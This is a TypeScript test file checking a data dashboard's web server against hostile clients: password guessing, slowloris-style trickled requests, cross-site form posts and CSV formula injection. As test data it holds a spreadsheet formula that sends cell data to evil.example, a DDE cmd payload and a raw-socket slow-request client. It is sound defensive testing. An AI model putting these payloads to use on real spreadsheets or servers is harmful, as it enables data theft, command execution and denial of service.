import assert from "node:assert/strict";
import fs from "node:fs";
import net from "node:net";
import path from "node:path";
import { after, before, describe, test } from "node:test";
import { wait_until } from "./support/daemon_process.js";
import { make_sandbox, run_cli, type Sandbox } from "./support/sandbox.js";
import { altered_copy } from "./support/serving_reader.js";
import { basic, form, form_session, get } from "./support/web_client.js";
import { start_web, type WebProcess } from "./support/web_process.js";

// The web against clients that mean harm (issue 9): password guessing, slow and never-ending
// requests, formulas smuggled into CSV cells, forms posted from other sites, and the headers
// and error texts an anonymous client gets.

const admin_password = "correct horse battery staple";
/** Generous for a loaded machine: a bound the server must beat, not a speed measurement. */
const close_wait_ms = 15_000;

const set_cookie = (headers: Headers, name: string) => headers.getSetCookie().find((cookie) => cookie.startsWith(`${name}=`));

interface RawExchange {
  /** Everything the server sent. */
  received: string;
  /** The server closed the connection before the client had sent all it meant to and ended its side. */
  closed_early: boolean;
}

/**
 * A client on a raw socket that sends `head` and then `trickle` one byte every `interval_ms`, as
 * a slow attacker does, and stops when the server closes the connection.
 */
function trickle(url: string, head: string, trickled: string, interval_ms: number): Promise<RawExchange> {
  const { hostname, port } = new URL(url);
  return new Promise((resolve) => {
    const socket = net.connect(Number(port), hostname);
    let received = "";
    let sent = 0;
    let ended = false;
    let timer: NodeJS.Timeout | undefined;
    socket.on("data", (chunk: Buffer) => (received += chunk.toString()));
    socket.on("error", () => {}); // a reset after the server closes is one way of being cut
    socket.on("close", () => {
      clearInterval(timer);
      resolve({ received, closed_early: !ended });
    });
    socket.once("connect", () => {
      socket.write(head);
      timer = setInterval(() => {
        if (sent === trickled.length) {
          clearInterval(timer);
          ended = true;
          socket.end();
          return;
        }
        if (!socket.destroyed) socket.write(trickled[sent++]!);
      }, interval_ms);
    });
  });
}

async function build_serving_file(sandbox: Sandbox): Promise<void> {
  const built = await run_cli(["pipeline", "run", "all"], sandbox.env);
  assert.equal(built.code, 0, built.stderr + built.stdout);
}

describe("password guessing on /admin", () => {
  test("wrong passwords from one address get 429 with Retry-After, the right one included; each is logged with the address", async (t) => {
    const sandbox = make_sandbox({ ADMIN_PASSWORD: admin_password, WEB_ADMIN_LOGIN_FAILURES_MAX: "3", WEB_ADMIN_LOGIN_WINDOW_S: "600" });
    t.after(() => sandbox.cleanup());
    const web = await start_web(sandbox.env);
    t.after(() => web.stop());

    for (const scheme of ["Basic", "basic", "BASIC"]) {
      const headers = { authorization: `${scheme} ${Buffer.from(`admin:${admin_password}`).toString("base64")}` };
      assert.equal((await get(web.url, "/api/admin", { headers })).status, 200, `the ${scheme} scheme is accepted`);
    }
    assert.equal((await get(web.url, "/api/admin")).status, 401, "no credentials: the browser's prompt");
    for (let attempt = 1; attempt <= 3; attempt++) {
      assert.equal((await get(web.url, "/api/admin", { headers: basic(`guess ${attempt}`) })).status, 401);
    }
    const locked = await get(web.url, "/api/admin", { headers: basic(admin_password) });
    assert.equal(locked.status, 429, "the right password is refused too while the address is locked out");
    const retry_after_s = Number(locked.headers.get("retry-after"));
    assert.ok(retry_after_s >= 1 && retry_after_s <= 600, `Retry-After: ${locked.headers.get("retry-after")}`);
    assert.match(locked.text, /too many wrong admin passwords from this address: try again in \d+ s/);
    const spoofed = await get(web.url, "/api/admin", { headers: { ...basic(admin_password), "x-forwarded-for": "198.51.100.2" } });
    assert.equal(spoofed.status, 429, "X-Forwarded-For counts for nothing unless WEB_TRUST_PROXY trusts the sender");

    const failures = web.output().split("\n").filter((line) => line.includes("failed admin login"));
    assert.deepEqual(failures.map((line) => line.replace(/^<4>warn: web: /, "")), [1, 2, 3].map((n) =>
      `failed admin login from 127.0.0.1 (${n} of 3 within 600 s)`));
  });

  test("behind a trusted proxy, the counter and the log use the client address the proxy names", async (t) => {
    const sandbox = make_sandbox({ ADMIN_PASSWORD: admin_password, WEB_ADMIN_LOGIN_FAILURES_MAX: "2", WEB_TRUST_PROXY: "loopback" });
    t.after(() => sandbox.cleanup());
    const web = await start_web(sandbox.env);
    t.after(() => web.stop());
    const from = (address: string) => ({ "x-forwarded-for": address });

    for (let attempt = 1; attempt <= 2; attempt++) {
      assert.equal((await get(web.url, "/api/admin", { headers: { ...basic("guess"), ...from("203.0.113.7") } })).status, 401);
    }
    assert.equal((await get(web.url, "/api/admin", { headers: { ...basic(admin_password), ...from("203.0.113.7") } })).status, 429);
    assert.equal((await get(web.url, "/api/admin", { headers: { ...basic(admin_password), ...from("198.51.100.2") } })).status, 200,
      "another client is not locked out by the first one's guesses");
    assert.match(web.output(), /<4>warn: web: failed admin login from 203\.0\.113\.7 \(2 of 2 within 900 s\)/);
  });
});

describe("slow and never-ending requests", () => {
  let sandbox: Sandbox;
  /** Short bounds. */
  let web: WebProcess;
  /** Bounds far beyond any trickle here, so only answering can end a connection early; 4 connections at most. */
  let patient: WebProcess;

  before(async () => {
    sandbox = make_sandbox({ ADMIN_PASSWORD: admin_password });
    web = await start_web({ ...sandbox.env, WEB_HEADERS_TIMEOUT_MS: "1000", WEB_REQUEST_TIMEOUT_MS: "2000", WEB_KEEP_ALIVE_TIMEOUT_MS: "2000" });
    patient = await start_web({ ...sandbox.env, WEB_HEADERS_TIMEOUT_MS: "600000", WEB_REQUEST_TIMEOUT_MS: "600000",
      WEB_SOCKET_IDLE_TIMEOUT_MS: "600000", WEB_CONNECTIONS_MAX: "4" });
  });
  after(async () => {
    try {
      await web?.stop();
      await patient?.stop();
    } finally {
      sandbox.cleanup();
    }
  });

  test("a body trickled to POST /settings is cut with 408 at WEB_REQUEST_TIMEOUT_MS, long before it ends", async () => {
    const body = "units=tonnes&from=2000&to=2020&padding=" + "x".repeat(60); // 100 bytes: 25 s at this pace
    const head = `POST /settings HTTP/1.1\r\nHost: test\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${body.length}\r\n\r\n`;
    const exchange = await trickle(web.url, head, body, 250);
    assert.ok(exchange.closed_early, `the server waited for the whole body: ${exchange.received}`);
    assert.match(exchange.received, /^HTTP\/1\.1 408 /);
  });

  test("headers trickled in are cut at WEB_HEADERS_TIMEOUT_MS", async () => {
    const headers = "Host: test\r\nUser-Agent: slowloris\r\nAccept: text/html\r\n\r\n"; // 15 s at this pace
    const exchange = await trickle(web.url, "GET / HTTP/1.1\r\n", headers, 250);
    assert.ok(exchange.closed_early, `the server waited for every header: ${exchange.received}`);
    assert.match(exchange.received, /^HTTP\/1\.1 408 /);
  });

  test("an answer sent before the body was read (401, 404) closes the connection while the client still trickles", async () => {
    const body = "csrf_token=" + "x".repeat(89); // 100 bytes: 10 s at this pace
    for (const [target, status] of [["/admin/run-now", 401], ["/no/such/form", 404]] as const) {
      const head = `POST ${target} HTTP/1.1\r\nHost: test\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${body.length}\r\n\r\n`;
      const exchange = await trickle(patient.url, head, body, 100);
      assert.match(exchange.received, new RegExp(`^HTTP/1\\.1 ${status} `), target);
      assert.match(exchange.received, /\r\nConnection: close\r\n/i, target);
      assert.ok(exchange.closed_early, `${target}: the socket stayed open until the client had sent its whole body`);
    }
  });

  test("an idle keep-alive connection is closed after WEB_KEEP_ALIVE_TIMEOUT_MS, and says so", async () => {
    // The client would hang up after close_wait_ms; the server must do it first.
    const { received, closed_early } = await trickle(web.url, "GET /healthz HTTP/1.1\r\nHost: test\r\n\r\n", "", close_wait_ms);
    assert.match(received, /^HTTP\/1\.1 503 /);
    assert.match(received, /\r\nKeep-Alive: timeout=2\r\n/i);
    assert.ok(closed_early, "the server closed the idle connection");
  });

  test("connections past WEB_CONNECTIONS_MAX are closed at once, and a freed slot serves again", async (t) => {
    const { hostname, port } = new URL(patient.url);
    const open = async () => {
      const socket = net.connect(Number(port), hostname);
      socket.on("error", () => {});
      await new Promise((resolve) => socket.once("connect", resolve));
      return socket;
    };
    const held = await Promise.all([open(), open(), open(), open()]);
    t.after(() => held.forEach((socket) => socket.destroy()));
    const extra = await open();
    const cut = await new Promise<string>((resolve) => {
      let received = "";
      extra.on("data", (chunk: Buffer) => (received += chunk.toString()));
      extra.on("close", () => resolve(received));
      extra.write("GET /healthz HTTP/1.1\r\nHost: test\r\n\r\n");
    });
    assert.equal(cut, "", "the fifth connection was closed without an answer");
    held.forEach((socket) => socket.destroy());
    const reply = await wait_until("a request to get through again", close_wait_ms, async () => {
      try {
        return await get(patient.url, "/healthz");
      } catch {
        return false;
      }
    });
    assert.equal(reply.status, 503, "answered (no serving file yet)");
  });
});

describe("a hostile client of the dashboard's data and forms", () => {
  let sandbox: Sandbox;
  let web: WebProcess;

  before(async () => {
    sandbox = make_sandbox({ ADMIN_PASSWORD: admin_password, WEB_TRUST_PROXY: "loopback" });
    await build_serving_file(sandbox);
    // A release whose country names are spreadsheet formulas, as a poisoned upstream file would carry.
    const poisoned = await altered_copy(sandbox.config.serving_duckdb_path, path.join(sandbox.dir, "poisoned.duckdb"), [
      `UPDATE rankings SET country_name = '=HYPERLINK("http://evil.example/?"&A1,"Brazil")' WHERE country_code = 'BR'`,
      `UPDATE rankings SET country_name = '@SUM(1+1)*cmd|'' /C calc''!A0' WHERE country_code = 'VM'`,
      `UPDATE rankings SET country_name = '+1+1' WHERE country_code = 'CO'`,
      `UPDATE rankings SET country_name = '-1+1' WHERE country_code = 'ET'`,
    ]);
    fs.renameSync(poisoned, sandbox.config.serving_duckdb_path);
    web = await start_web(sandbox.env);
  });
  after(async () => {
    try {
      await web?.stop();
    } finally {
      sandbox.cleanup();
    }
  });

  test("CSV cells that a spreadsheet would run as formulas are neutralised; negative numbers stay numbers", async () => {
    const csv = await get(web.url, "/api/rankings.csv?year=2023&top=5&table=production");
    assert.equal(csv.status, 200);
    const rows = csv.text.trim().split("\r\n");
    assert.ok(rows[1]!.startsWith(`1,"'=HYPERLINK(""http://evil.example/?""&A1,""Brazil"")",BR,66300,`), rows[1]);
    assert.ok(rows.some((row) => row.startsWith(`2,"'@SUM(1+1)*cmd|' /C calc'!A0",VM,`)), csv.text);
    assert.ok(rows.some((row) => row.startsWith(`3,"'+1+1",CO,`)), csv.text);
    assert.ok(rows.some((row) => row.startsWith(`5,"'-1+1",ET,`)), csv.text);
    const indonesia = rows.find((row) => row.includes(",ID,"))!.split(",");
    assert.equal(indonesia[5], "-2150", "Indonesia's fall in 2023 is a number a spreadsheet can sum");
  });

  test("a form posted without this browser's token, or from another site with it, is refused with 403", async () => {
    const session = await form_session(web.url, "/settings");
    const other = await form_session(web.url, "/settings");
    assert.notEqual(session.token, other.token, "each browser gets its own token");
    const fields = { units: "tonnes", from: "2000", to: "2020" };
    const own_site = { origin: web.url, "sec-fetch-site": "same-origin" };
    const cases: [string, RequestInit, RegExp][] = [
      ["no token", form(fields, { cookie: session.cookie }), /missing or invalid CSRF token/],
      ["no session cookie", form({ ...fields, csrf_token: session.token }), /missing or invalid CSRF token/],
      ["another browser's token", form({ ...fields, csrf_token: other.token }, { cookie: session.cookie }), /missing or invalid CSRF token/],
      ["Origin of another site", form({ ...fields, csrf_token: session.token }, { cookie: session.cookie, origin: "http://evil.example" }),
        /cross-site request refused/],
      ["Origin null", form({ ...fields, csrf_token: session.token }, { cookie: session.cookie, origin: "null" }), /cross-site request refused/],
      ["Sec-Fetch-Site cross-site", form({ ...fields, csrf_token: session.token }, { cookie: session.cookie, "sec-fetch-site": "cross-site" }),
        /cross-site request refused \(Sec-Fetch-Site: cross-site\)/],
    ];
    for (const [what, init, message] of cases) {
      const reply = await get(web.url, "/settings", init);
      assert.equal(reply.status, 403, what);
      assert.match(reply.text, message, what);
      assert.equal(set_cookie(reply.headers, "beanflows_settings"), undefined, `${what}: no settings saved`);
    }
    const saved = await get(web.url, "/settings", form({ ...fields, csrf_token: session.token }, { cookie: session.cookie, ...own_site }));
    assert.equal(saved.status, 303, "the form from this site, in this browser, is saved");
    assert.match(set_cookie(saved.headers, "beanflows_settings") ?? "", /^beanflows_settings=units%3Dtonnes/);
  });

  test("Run now takes only this session's token, and never from another site", async () => {
    const admin = basic(admin_password);
    const session = await form_session(web.url, "/admin", admin);
    const other = await form_session(web.url, "/admin", admin);
    const run_now = (fields: Record<string, string>, headers: Record<string, string>) =>
      get(web.url, "/admin/run-now", form(fields, { ...admin, ...headers }));
    assert.equal((await run_now({ csrf_token: other.token }, { cookie: session.cookie })).status, 403);
    assert.equal((await run_now({ csrf_token: session.token }, { cookie: session.cookie, origin: "https://evil.example" })).status, 403);
    assert.equal((await run_now({ csrf_token: session.token }, { cookie: session.cookie, "sec-fetch-site": "same-site" })).status, 403);
    assert.deepEqual(web.messages.filter((m) => (m as { type: string }).type === "run_now"), [], "no run was asked for");
    const run = await run_now({ csrf_token: session.token }, { cookie: session.cookie, origin: web.url, "sec-fetch-site": "same-origin" });
    assert.equal(run.status, 303);
    // The message travels over IPC beside the HTTP answer: it may arrive just after it.
    await wait_until("the run_now message", close_wait_ms, () => web.messages.some((m) => (m as { type: string }).type === "run_now"));
    assert.deepEqual(web.messages.filter((m) => (m as { type: string }).type === "run_now"), [{ type: "run_now" }]);
  });

  test("HSTS and Secure cookies only when a trusted proxy says the request came over TLS; no framing anywhere", async () => {
    const plain = await get(web.url, "/");
    assert.equal(plain.status, 200);
    assert.equal(plain.headers.get("strict-transport-security"), null, "no HSTS over plain HTTP");
    assert.equal(plain.headers.get("x-frame-options"), "DENY");
    assert.match(plain.headers.get("content-security-policy") ?? "", /frame-ancestors 'none'/);

    const tls = { "x-forwarded-proto": "https" };
    const page = await get(web.url, "/", { headers: tls });
    const asset = /<link rel="stylesheet" href="([^"]+)"/.exec(page.text)![1]!;
    // Twice each: the second answer comes from the cache, in front of Express.
    for (const address of ["/", "/", "/api/overview", "/api/overview", asset, asset]) {
      const over_tls = await get(web.url, address, { headers: tls });
      assert.equal(over_tls.status, 200, address);
      assert.equal(over_tls.headers.get("strict-transport-security"), "max-age=31536000", `${address}: HSTS without includeSubDomains`);
      const plain_again = await get(web.url, address);
      assert.equal(plain_again.headers.get("strict-transport-security"), null, `${address}: no HSTS over plain HTTP`);
      assert.equal(plain_again.headers.get("x-frame-options"), "DENY", address);
    }
    const session = await form_session(web.url, "/settings", tls);
    const saved = await get(web.url, "/settings", form({ units: "tonnes", csrf_token: session.token }, { ...tls, cookie: session.cookie }));
    assert.equal(saved.status, 303);
    assert.match(set_cookie(saved.headers, "beanflows_settings") ?? "", /; Secure\b/);
    const fresh = await get(web.url, "/settings", { headers: tls });
    assert.match(set_cookie(fresh.headers, "beanflows_session") ?? "", /; Secure\b/);
  });

  test("a client that is not behind a trusted proxy cannot claim TLS", async (t) => {
    const direct = await start_web({ ...sandbox.env, WEB_TRUST_PROXY: "" });
    t.after(() => direct.stop());
    const tls = { "x-forwarded-proto": "https" };
    assert.equal((await get(direct.url, "/", { headers: tls })).headers.get("strict-transport-security"), null);
    const fresh = await get(direct.url, "/settings", { headers: tls });
    assert.doesNotMatch(set_cookie(fresh.headers, "beanflows_session") ?? "missing", /Secure|missing/);
    const session = await form_session(direct.url, "/settings", tls);
    const saved = await get(direct.url, "/settings", form({ units: "tonnes", csrf_token: session.token }, { ...tls, cookie: session.cookie }));
    assert.equal(saved.status, 303);
    assert.doesNotMatch(set_cookie(saved.headers, "beanflows_settings") ?? "missing", /Secure|missing/);
  });

  test("every answer the settings cookie changes says Vary: Cookie", async () => {
    for (const address of ["/", "/api/overview", "/api/overview.csv", "/country/BR", "/api/rankings", "/settings", "/api/settings"]) {
      const reply = await get(web.url, address);
      assert.equal(reply.status, 200, address);
      assert.match(reply.headers.get("vary") ?? "", /\bCookie\b/i, address);
    }
  });

  test("/healthz shows no path to anonymous clients", async () => {
    const health = await get(web.url, "/healthz");
    assert.equal(health.status, 200);
    assert.ok(!health.text.includes(sandbox.dir), health.text);
  });
});

describe("what an anonymous client learns from a broken serving file", () => {
  test("pages, errors and /healthz name no path and no DuckDB error; the admin page does", async (t) => {
    const sandbox = make_sandbox({ ADMIN_PASSWORD: admin_password });
    t.after(() => sandbox.cleanup());
    fs.writeFileSync(sandbox.config.serving_duckdb_path, "this is not a DuckDB file ".repeat(1000));
    const web = await start_web(sandbox.env);
    t.after(() => web.stop());

    for (const address of ["/", "/api/overview", "/country/BR", "/healthz", "/settings"]) {
      const reply = await get(web.url, address);
      assert.equal(reply.status, 503, address);
      assert.match(reply.text, /the serving file was refused \(it is not a DuckDB file the web can open; the server log has the details\)/, address);
      assert.ok(!reply.text.includes(sandbox.dir), `${address} shows a path: ${reply.text.slice(0, 300)}`);
      assert.doesNotMatch(reply.text, /IO Error|Serialization Error|Catalog Error/, address);
    }
    const admin = await get(web.url, "/admin", { headers: basic(admin_password) });
    assert.equal(admin.status, 200);
    assert.ok(admin.text.includes(sandbox.config.serving_duckdb_path), "the operator sees the file and DuckDB's error");
  });
});
